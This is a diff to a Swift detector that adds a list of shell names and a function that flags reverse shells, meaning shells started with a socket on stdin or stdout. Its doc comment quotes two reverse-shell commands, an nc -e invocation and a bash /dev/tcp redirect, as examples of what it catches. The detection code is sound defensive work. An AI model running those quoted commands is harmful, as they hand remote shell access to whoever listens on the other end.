@@ -19,6 +19,15 @@ public struct PipelineDetector: Sendable {
         var timeNs: UInt64
     }
 
+    /// Shells proper (a reverse shell is one of these started with a socket on stdin or stdout).
+    public static let shellsOnly: Set<String> = ["sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish", "ash"]
+
+    /// A shell whose stdin or stdout is a socket at exec: `nc -e /bin/sh`, and the shell that
+    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1` starts.
+    public static func isReverseShell(_ p: ProcessEntry, stdioSocket: Bool) -> Bool {
+        stdioSocket && shellsOnly.contains(String(base(p.binary)))
+    }
+
     public var window: UInt64 = 10_000_000_000
     /// Waiting ends by pipe (bounded: the oldest half is dropped when full).
     private var writers: [UInt64: End] = [:]
